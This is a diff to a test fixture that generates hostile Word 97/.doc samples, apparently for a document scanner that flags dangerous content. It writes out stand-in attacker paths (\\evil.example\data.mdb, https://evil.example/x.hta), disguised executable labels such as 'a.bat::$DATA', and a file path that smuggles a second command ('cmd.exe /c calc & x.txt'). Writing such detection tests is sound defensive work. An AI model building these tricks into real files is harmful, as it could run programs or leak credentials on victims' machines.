@@ -1,7 +1,7 @@
 import { compoundFile } from '../../../support/compound-file';
 import { classes, linkedObject, packagedFile } from '../../../support/ole';
 import { networkPaths, programNames, servers } from '../../../support/windows-names';
-import { oldWordFile, wordFile, wordStreams } from '../../../support/word97';
+import { oldWordFile, textStart, wordFile, wordStreams } from '../../../support/word97';
 import { type Hostile, hostileFile, patched } from './hostile';
 
 const hostile = hostileFile('doc');
@@ -174,7 +174,89 @@ const objects: Hostile[] = [
   hostile('of Word 6 with macros', oldWordFile('CV', { commands: Buffer.from([0xff, 1, 1, 0, 0, 0, 0x40]) }), 'macros'),
 ];
 
+/** A table of frames ([MS-DOC] 2.9.241) with one entry of a kind. */
+function frames(kind: number, data = Buffer.from('\\\\evil.example\\x.htm', 'utf16le')): Buffer {
+  const head = Buffer.alloc(8);
+  head.writeUInt32LE(head.length + data.length, 0);
+  head.writeUInt32LE(kind, 4);
+  return Buffer.concat([head, data]);
+}
+
+const order = Buffer.from('\\\\evil.example\\data.mdb', 'utf16le');
+const stylesOfLists = 6;
+
+const orders: Hostile[] = (
+  [
+    ['a mail merge', { 1170: order }, 'a mail merge'],
+    ['a mail merge of Word 97', { 506: order }, 'a mail merge'],
+    ['people to send it to', { 714: order }, 'send it by mail'],
+    ['schemas from elsewhere', { 1242: order }, 'schemas'],
+    ['pages in frames', { 946: frames(1) }, 'pages that show other files'],
+    [
+      'styles of lists before pages in frames',
+      { 946: Buffer.concat([frames(stylesOfLists), frames(3)]) },
+      'other files',
+    ],
+    ['a key for a macro', { 346: Buffer.from('ff0101000000560000000000ffff00000040', 'hex') }, 'macros'],
+    ['a table of frames that is cut', { 946: frames(stylesOfLists).subarray(0, 20) }, 'damaged'],
+    ['a table of frames without an end', { 946: Buffer.from([4, 0, 0, 0, stylesOfLists, 0, 0, 0]) }, 'damaged'],
+  ] as const
+).map(([what, tables, because]) => hostile(`with ${what}`, wordFile({ text: 'CV', tables }), because));
+
+/** Labels of what is saved as a program, behind a path that ends well. */
+const labels = [
+  ...['a.SettingContent-ms', 'a.library-ms', 'a.bat ', 'a.bat.', 'a.bat\u00a0', 'a.bat\t', 'a.bat/', 'a.bat"'],
+  ...['a.bat:x', 'a.bat::$DATA', 'a.{12345678-1234-1234-1234-123456789012}', 'a.js'],
+];
+
+const commands = ['cmd.exe /c calc.txt', 'C:\\Windows\\System32\\cmd.exe /c calc & x.txt', 'C:\\a\\b.txt'];
+
+const localPrograms = ['C:\\Windows\\System32\\calc.exe', 'C:\\a\\x.hta', 'C:\\a\\x.sct'];
+
+const named: Hostile[] = [
+  ...labels.map((label) =>
+    hostile(
+      `with a file labelled ${JSON.stringify(label)}`,
+      withObject({ [native]: packagedFile('a.txt', 'x', { label }) }),
+      'may be a program',
+    ),
+  ),
+  ...commands.map((path) =>
+    hostile(
+      `with the name ${path} for a file`,
+      withObject({ [native]: packagedFile('a.txt', 'x', { path, isLinked: true }) }),
+      'computer of its author',
+    ),
+  ),
+  ...localPrograms.map((path) =>
+    hostile(
+      `with an object linked to ${path}`,
+      withObject({ '\u0001Ole': linkedObject(path) }, classes.link),
+      'a link to a program',
+    ),
+  ),
+  ...['\\\\evil.example\\x.doc', 'https://evil.example/x.hta'].flatMap((place) =>
+    (['latin1', 'utf16le'] as const).map((coding) =>
+      hostile(
+        `with notes of a link to ${place} (${coding})`,
+        withObject({ '\u0003LinkInfo': Buffer.concat([Buffer.alloc(11), Buffer.from(place, coding)]) }, classes.link),
+        'on another computer',
+      ),
+    ),
+  ),
+];
+
 const broken: Hostile[] = [
+  hostile(
+    'with more numbers before its tables than any program writes',
+    patchedWord((main) => main.writeUInt16LE(18, 32)),
+    'damaged',
+  ),
+  hostile(
+    'with more long numbers before its tables than any program writes',
+    patchedWord((main) => main.writeUInt16LE(26, 62)),
+    'damaged',
+  ),
   hostile(
     'whose text is not where it says',
     patchedWord((main) => main.writeUInt32LE(0x7fffffff, 418)),
@@ -225,7 +307,7 @@ function sharedPieces(): Buffer {
   const table = streams['1Table'] ?? Buffer.alloc(0);
   const at = (streams.WordDocument?.readUInt32LE(418) ?? 0) + 5;
   for (let index = 0; index <= 1000; index += 1) table.writeUInt32LE(index * 5000, at + index * 4);
-  for (let index = 0; index < 1000; index += 1) table.writeUInt32LE(900, at + 1001 * 4 + index * 8 + 2);
+  for (let index = 0; index < 1000; index += 1) table.writeUInt32LE(textStart + 2, at + 1001 * 4 + index * 8 + 2);
   return compoundFile(streams);
 }
 
@@ -239,4 +321,4 @@ function renamedStream(name: string): Buffer {
   });
 }
 
-export const docsWithThingsInside: Hostile[] = [...fields, ...paths, ...objects, ...broken];
+export const docsWithThingsInside: Hostile[] = [...fields, ...paths, ...objects, ...orders, ...named, ...broken];
